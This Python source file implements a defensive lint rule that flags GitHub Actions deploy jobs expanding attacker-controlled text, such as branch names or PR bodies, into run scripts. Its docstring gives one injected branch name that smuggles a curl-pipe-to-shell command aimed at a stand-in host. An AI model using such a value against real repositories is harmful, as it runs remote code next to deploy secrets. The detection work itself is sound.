"""Report attacker-controlled values expanded with `${{ }}` into deploy scripts.

## What it does
In jobs that deploy or hold deploy credentials, finds `${{ ... }}` expressions
inside `run:` scripts (and the `script:` of `actions/github-script`) whose
value can carry text chosen by someone outside the team: branch names
(`github.head_ref`, `github.event.pull_request.head.ref`,
`github.event.workflow_run.head_branch`), pull request, issue, comment and
review titles and bodies, commit messages and authors, free-text
`workflow_dispatch` / `workflow_call` inputs, `github.ref_name` in workflows
run on `pull_request`, and `env.X` whose value is one of these. Local
composite actions the job uses are followed, with their `inputs.*` bound to
what the job passes. Each finding points at the expression itself.

Values that cannot carry such text are not reported: commit SHAs
(`github.sha`, `github.event.pull_request.head.sha`), job results and step
outcomes, `env.X` set to a literal, `choice`, `boolean`, `number` and
`environment` inputs, comparisons and `contains()`-style tests, and values
passed through `env:` and read by the shell as `"$VAR"`.

## Why is this bad?
GitHub substitutes `${{ }}` into the script text before the shell runs it, so
a branch named `a";curl${IFS}evil.sh|sh;"` becomes shell code. In a deploy
job that code runs next to the Cloudflare API token and can publish anything
to production or send the token away.

## Example
```yaml .github/workflows/preview.yml
on: pull_request
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - run: npx wrangler pages deploy dist --branch ${{ github.head_ref }}
```

Use instead:
```yaml .github/workflows/preview.yml
on: pull_request
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - env:
          BRANCH: ${{ github.head_ref }}
        run: npx wrangler pages deploy dist --branch "$BRANCH"
```

## Known problems
Values written to `$GITHUB_ENV` or `$GITHUB_OUTPUT` by an earlier step, and
step outputs such as `steps.branch.outputs.name`, are not followed, so a branch
name passed along that way is missed. `github.ref_name` is reported with medium
confidence: on `pull_request` GitHub documents it as `<number>/merge`, and it
only carries a branch name when the same workflow also runs on `push`.
Scripts in jobs that neither deploy nor hold deploy credentials are not
checked.

## References
- GitHub Docs, "Script injections":
  https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- GitHub Security Lab, "Untrusted input":
  https://securitylab.github.com/resources/github-actions-untrusted-input/
- zizmorcore/zizmor PR #67: https://github.com/zizmorcore/zizmor/pull/67
- ramp4-pcar4/ramp4-pcar4 PR #1543: https://github.com/ramp4-pcar4/ramp4-pcar4/pull/1543
- false positives avoided: zizmorcore/zizmor #54, #313, #1166, #1802, #2197
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator

from runart_lint.findings import Confidence, Finding, Location, Severity
from runart_lint.graph.expressions import Expression, Scope, expressions
from runart_lint.graph.jobs import (
    blocked,
    closing_paren,
    deploy_jobs,
    local_action,
    split_top_level,
    step_blocked,
    unwrap,
)
from runart_lint.graph.model import Audit
from runart_lint.graph.positions import locate
from runart_lint.loaders.tree import Mapping, Scalar
from runart_lint.loaders.workflow import Action, Job, Step, Workflow
from runart_lint.records import record
from runart_lint.rules.base import RuleMeta

META = RuleMeta(
    id="untrusted-input-in-run",
    summary="attacker-controlled text is expanded into a deploy job's script",
    severity=Severity.ERROR,
    inputs=("workflows",),
    security=True,
)

# GitHub's list of event fields that carry user-written text, plus branch names:
# https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
ATTACKER_CONTROLLED = (
    "github.head_ref",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.name",
    "github.event.head_commit.author.email",
    "github.event.commits.*.message",
    "github.event.commits.*.author.name",
    "github.event.commits.*.author.email",
    "github.event.pages.*.page_name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.head_commit.author.email",
)
CLOSED_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})
INPUT_EVENTS = ("workflow_dispatch", "workflow_call")
TESTS = re.compile(
    r"^(?:contains|startswith|endswith|success|failure|always|cancelled|hashfiles)"
    r"\s*\(",
    re.I,
)
COMPARISON = re.compile(r"==|!=|<=|>=|<|>")
STRING = re.compile(r"'(?:[^']|'')*'")
INDEX = re.compile(r"\[\s*'([\w-]+)'\s*\]")
GITHUB_SCRIPT = re.compile(r"^actions/github-script(?:@|$)", re.I)
MAX_HOPS = 8


@record
class Source:
    """An attacker-controlled value and the `env`/`inputs` hops to it."""

    ref: str
    via: tuple[str, ...]
    certain: bool

    def describe(self) -> str:
        """Return how to name the value in a message."""
        if self.ref.startswith(("inputs.", "github.event.inputs.")):
            return f"workflow input `{self.ref}`"
        if self.ref == "github.ref_name":
            return "branch name `github.ref_name`"
        return f"attacker-controlled `{self.ref}`"


@record
class Reading:
    """Where an expression is evaluated: workflow, `env:` layers, caller."""

    audit: Audit
    workflow: Workflow
    job: Job
    scope: Scope
    on_pull_request: bool
    caller: Reading | None = None


@record
class Script:
    """A script field of a step, the file it is written in, and its reading."""

    scalar: Scalar
    field: str
    path: str
    step: Step
    reading: Reading


def check(audit: Audit) -> Iterator[Finding]:
    """Yield one error per `${{ }}` that expands attacker text into a script."""
    # Only deploy jobs are read: an injection in a build job whose artifact a
    # deploy job later publishes is not reported.
    for workflow, job in deploy_jobs(audit):
        for script in _scripts(audit, workflow, job):
            lines = audit.lines(script.path)
            seen: dict[str, int] = {}
            for expression in expressions(script.scalar.text()):
                sources = expression_sources(expression.body, script.reading, 0)
                if sources:
                    yield _finding(script, expression, sources, lines, seen)


def _scripts(audit: Audit, workflow: Workflow, job: Job) -> Iterator[Script]:
    """Yield the scripts a job runs, composite action steps included."""
    job_scope = job_scope_of(workflow, job)
    job_on_pr = workflow.trigger("pull_request") is not None and not blocked(
        audit, workflow, job, "pull_request"
    )
    for step in job.steps:
        on_pr = job_on_pr and not step_blocked(step, "pull_request")
        reading = Reading(audit, workflow, job, job_scope.inner(step.env), on_pr)
        yield from _step_scripts(step, workflow.path, reading)

        action = local_action(audit, step)
        if action is not None:
            yield from _action_scripts(action, step, reading)


def job_scope_of(workflow: Workflow, job: Job) -> Scope:
    """Return the `env:` layers a job's steps read, innermost first."""
    base = Scope(envs=(workflow.env,) if workflow.env is not None else ())
    return base.inner(job.env)


def _step_scripts(step: Step, path: str, reading: Reading) -> Iterator[Script]:
    """Yield the `run:` or github-script `script:` of one step."""
    if step.run is not None:
        yield Script(step.run, "run", path, step, reading)
    uses = step.uses.text() if step.uses is not None else ""
    script = step.with_.scalar("script") if step.with_ is not None else None
    if script is not None and GITHUB_SCRIPT.match(uses):
        yield Script(script, "script", path, step, reading)


def _action_scripts(action: Action, step: Step, caller: Reading) -> Iterator[Script]:
    """Yield the scripts of a composite action, its inputs bound to the step."""
    with_ = step.with_ or Mapping({}, step.span)
    inputs = tuple(
        (key, value) for key, value in with_.items() if isinstance(value, Scalar)
    )
    scope = Scope(caller.scope.envs, inputs)
    for inner in action.steps:
        on_pr = caller.on_pull_request and not step_blocked(inner, "pull_request")
        reading = Reading(
            caller.audit,
            caller.workflow,
            caller.job,
            scope.inner(inner.env),
            on_pr,
            caller,
        )
        yield from _step_scripts(inner, action.path, reading)


def expression_sources(body: str, reading: Reading, hops: int) -> list[Source]:
    """Return the attacker-controlled values an expression's result can carry."""
    sources: list[Source] = []
    for ref in value_refs(body):
        for source in _ref_sources(ref, reading, hops):
            if source not in sources:
                sources.append(source)
    return sources


def value_refs(body: str) -> list[str]:
    """Return the context references whose text can become the result."""
    disjuncts = split_top_level(body, "||")
    if len(disjuncts) > 1:
        return [ref for part in disjuncts for ref in value_refs(part)]
    conjuncts = split_top_level(body, "&&")
    if len(conjuncts) > 1:
        # `a && b` yields `b`, or `a` only when `a` is falsy (an empty string).
        return value_refs(conjuncts[-1])

    operand = unwrap(body)
    if operand != body.strip():
        return value_refs(operand)
    if _is_boolean(operand):
        return []
    # `github['head_ref']` is `github.head_ref`: turn index strings into dotted
    # names before string literals are blanked out.
    dotted = INDEX.sub(r".\1", operand)
    return list(Expression(0, 0, STRING.sub("''", dotted)).refs())


def _is_boolean(operand: str) -> bool:
    """Return whether an operand evaluates to true/false, never to text."""
    bare = STRING.sub("''", operand)
    if bare.startswith("!") or COMPARISON.search(_outside_parens(bare)):
        return True
    match = TESTS.match(bare)
    return match is not None and closing_paren(bare, match.end() - 1) == len(bare) - 1


def _outside_parens(text: str) -> str:
    """Return `text` with everything inside parentheses removed."""
    kept = []
    depth = 0
    for char in text:
        depth += 1 if char == "(" else 0
        if depth == 0:
            kept.append(char)
        depth -= 1 if char == ")" and depth > 0 else 0
    return "".join(kept)


def _ref_sources(ref: str, reading: Reading, hops: int) -> list[Source]:
    """Return the attacker-controlled values one context reference carries."""
    # Step outputs and `$GITHUB_ENV` are not followed, so a branch name passed
    # along through `steps.<id>.outputs` is missed.
    if is_attacker_controlled(ref):
        return [Source(ref, (), True)]
    if ref == "github.ref_name" and reading.on_pull_request:
        return [Source(ref, (), False)]

    parts = ref.split(".")
    if len(parts) == 2 and parts[0] == "env":
        return _hop(ref, reading.scope.env(parts[1]), reading, hops)
    name = _input_name(parts)
    if name is None:
        return []
    if reading.caller is not None:
        return _hop(ref, reading.scope.input(name), reading.caller, hops)
    return _workflow_input_sources(ref, name, reading, hops)


def _workflow_input_sources(
    ref: str, name: str, reading: Reading, hops: int
) -> list[Source]:
    """Return what a workflow input carries: free text, or what callers pass."""
    kinds = free_text_events(reading.workflow, name)
    if "workflow_dispatch" in kinds:
        return [Source(ref, (), True)]
    if "workflow_call" not in kinds:
        return []

    callers = list(_callers(reading.audit, reading.workflow))
    if not callers:
        return [Source(ref, (), True)]
    return [
        source
        for caller, job in callers
        for source in _hop(ref, _passed(job, name), caller, hops)
    ]


def _callers(audit: Audit, called: Workflow) -> Iterator[tuple[Reading, Job]]:
    """Yield the jobs in the repository that call `called` as a reusable workflow."""
    for workflow in audit.workflows:
        for job in workflow.jobs:
            uses = job.uses.text() if job.uses is not None else ""
            target = posixpath.normpath(uses[2:].split("@", 1)[0])
            if uses.startswith("./") and target == called.path:
                on_pr = workflow.trigger("pull_request") is not None
                scope = job_scope_of(workflow, job)
                yield Reading(audit, workflow, job, scope, on_pr), job


def _passed(job: Job, name: str) -> Scalar | None:
    """Return the value a calling job passes for input `name`."""
    return job.with_.scalar(name) if job.with_ is not None else None


def _input_name(parts: list[str]) -> str | None:
    """Return the input an `inputs.X` or `github.event.inputs.X` reference names."""
    if len(parts) == 2 and parts[0] == "inputs":
        return parts[1]
    if len(parts) == 4 and parts[:3] == ["github", "event", "inputs"]:
        return parts[3]
    return None


def _hop(
    label: str, scalar: Scalar | None, reading: Reading, hops: int
) -> list[Source]:
    """Follow an `env.X` or action `inputs.X` to the expressions it is set from."""
    if scalar is None or hops >= MAX_HOPS:
        return []
    return [
        Source(source.ref, (label, *source.via), source.certain)
        for expression in expressions(scalar.text())
        for source in expression_sources(expression.body, reading, hops + 1)
    ]


def is_attacker_controlled(ref: str) -> bool:
    """Return whether a reference is, or contains, text from outside the team."""
    return any(
        ref == field or field.startswith(ref + ".") for field in ATTACKER_CONTROLLED
    )


def free_text_events(workflow: Workflow, name: str) -> set[str]:
    """Return the events under which a workflow declares input `name` free text."""
    on = workflow.root.mapping("on")
    events = set()
    for event in INPUT_EVENTS:
        trigger = on.mapping(event) if on is not None else None
        inputs = trigger.mapping("inputs") if trigger is not None else None
        spec = inputs.get(name) if inputs is not None else None
        kind = spec.text("type") if isinstance(spec, Mapping) else None
        if spec is not None and (kind or "string").lower() not in CLOSED_INPUT_TYPES:
            events.add(event)
    return events


def _finding(
    script: Script,
    expression: Expression,
    sources: list[Source],
    lines: list[str],
    seen: dict[str, int],
) -> Finding:
    """Build the error for one expression."""
    first = sources[0]
    span = locate(script.scalar, lines, expression.start, expression.end)
    via = f" through `{first.via[0]}`" if first.via else ""
    others = "".join(f" and `{source.ref}`" for source in sources[1:])
    verb = "are" if others else "is"
    target = "the `run:` script" if script.field == "run" else "the github-script"
    job = script.reading.job.id
    seen[first.ref] = seen.get(first.ref, 0) + 1
    step = script.step.id or script.step.name or f"steps[{script.step.index}]"
    return Finding(
        rule_id=META.id,
        severity=META.severity,
        message=(
            f"{first.describe()}{others} {verb} expanded into {target} "
            f"of deploy job `{job}`{via}"
        ),
        help=_help(script.field, first, expression.body),
        location=Location(script.path, span),
        key=f"jobs.{job}/{step}/{script.field}/{first.ref}#{seen[first.ref]}",
        confidence=Confidence.HIGH if first.certain else Confidence.MEDIUM,
    )


def _help(field: str, source: Source, body: str) -> str:
    """Return how to pass the value safely."""
    written = source.via[0] if source.via else source.ref
    if written.startswith("env."):
        read = _shell_read(field, written.split(".", 1)[1])
        return f"read the variable as `{read}` instead of `${{{{ {written} }}}}`"

    name = re.sub(r"\W", "_", written.rsplit(".", 1)[-1]).upper()
    read = _shell_read(field, name)
    return (
        f"pass the value through `env:` (`{name}: ${{{{ {body} }}}}`) "
        f"and read it as `{read}`"
    )


def _shell_read(field: str, name: str) -> str:
    """Return how a script reads environment variable `name`."""
    return f"process.env.{name}" if field == "script" else f'"${name}"'
